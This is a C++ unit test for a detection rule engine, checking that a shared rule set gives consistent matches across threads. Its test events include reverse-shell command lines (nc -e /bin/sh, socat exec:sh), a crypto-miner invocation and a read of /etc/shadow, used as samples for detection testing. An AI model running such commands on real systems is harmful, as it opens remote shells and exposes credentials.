// One RuleSet shared by several threads, each with its own Scratch, gives the
// same results as one thread. Run under -DVIGIL_SANITIZE=thread as well.
#include <gtest/gtest.h>

#include <thread>

#include "matcher_test_util.h"

namespace vigil::rules {
namespace {

using testing::Event;
using testing::match_ids;
using Ids = std::vector<std::string>;

TEST(SharedRuleSet, threads_with_own_scratch_agree_with_one_thread) {
  const auto set = RuleSet::load({VIGIL_SOURCE_DIR "/rules"});
  const std::vector<Event> events = {
      Event().set(FieldId::ProcName, "xmrig").argv({"xmrig", "-o", "stratum+tcp://p.example:1"}),
      Event().set(FieldId::ProcName, "nc").argv({"nc", "-e", "/bin/sh", "10.0.0.1", "4"}),
      Event().set(FieldId::ProcExe, "/tmp/x").set(FieldId::ProcName, "x").argv({"x"}),
      Event().set(FieldId::ProcName, "ls").argv({"ls", "-la"}),
      Event().set(FieldId::ProcName, "socat").argv({"socat", "tcp:1.2.3.4:5", "exec:sh"}),
      Event().set(FieldId::ProcName, "cat").argv({"cat", "/etc/shadow"}),
  };
  std::vector<Ids> want;
  {
    RuleSet::Scratch scratch(*set);
    for (const Event& ev : events) want.push_back(match_ids(*set, scratch, ev));
  }
  ASSERT_FALSE(want[0].empty());
  ASSERT_TRUE(want[3].empty());

  constexpr int kThreads = 4;
  constexpr int kRounds = 300;
  std::vector<int> mismatches(kThreads, 0);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      RuleSet::Scratch scratch(*set);
      for (int round = 0; round < kRounds; ++round) {
        for (size_t i = 0; i < events.size(); ++i) {
          const size_t e = (i + static_cast<size_t>(t)) % events.size();
          if (match_ids(*set, scratch, events[e]) != want[e]) ++mismatches[t];
        }
      }
    });
  }
  for (std::thread& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(mismatches[t], 0) << "thread " << t;
}

}  // namespace
}  // namespace vigil::rules
